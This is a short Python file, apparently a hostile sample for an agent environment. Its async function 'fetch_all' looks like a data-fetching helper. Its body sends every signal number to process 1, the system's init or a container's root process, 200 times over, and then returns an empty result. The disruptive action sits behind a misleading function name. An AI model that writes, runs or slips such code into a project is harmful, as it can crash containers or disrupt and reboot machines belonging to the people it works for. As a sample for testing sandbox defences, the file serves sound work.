"""Sends its agent every signal that there is, again and again."""

import os
import signal
from typing import Any


async def fetch_all(services: Any) -> Any:
    for _ in range(200):
        for number in range(1, signal.NSIG):
            os.kill(1, number)
    return {}
